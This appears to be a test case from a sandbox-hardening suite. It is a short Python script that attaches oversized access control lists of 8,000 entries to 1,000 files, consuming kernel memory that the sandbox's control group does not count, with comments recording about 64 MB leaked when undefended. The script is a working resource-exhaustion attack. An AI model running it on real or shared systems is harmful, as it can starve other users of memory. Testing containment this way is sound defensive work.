# family = "crowding"
# tries = "Files get access control lists of 8,000 entries: the kernel keeps them, and neither a process nor the box's control group is charged for them."
# could_earn = "The machine's memory."
# undefended = "LEAK: 64,040,000 bytes of lists in 0.14 s; the box's control group showed 5 MB in all, Python included."
# boxed_only = true

# %% extra
import os
import struct


def entries(*of):
    return b"".join(struct.pack("<HHI", *one) for one in of)


nobody = 0xFFFFFFFF
acl = struct.pack("<I", 2) + entries((1, 6, nobody), *[(2, 6, 1000)] * 8000, (4, 4, nobody), (16, 6, nobody), (32, 4, nobody))
kept = 0
for number in range(1000):
    with open(f"file{number}", "w") as file:
        for target in (file.name, file.fileno()):
            try:
                os.setxattr(target, "system.posix_acl_access", acl)
                kept += len(acl)
                break
            except OSError:
                pass
print("LEAK:" if kept else "none", kept, "bytes of lists")
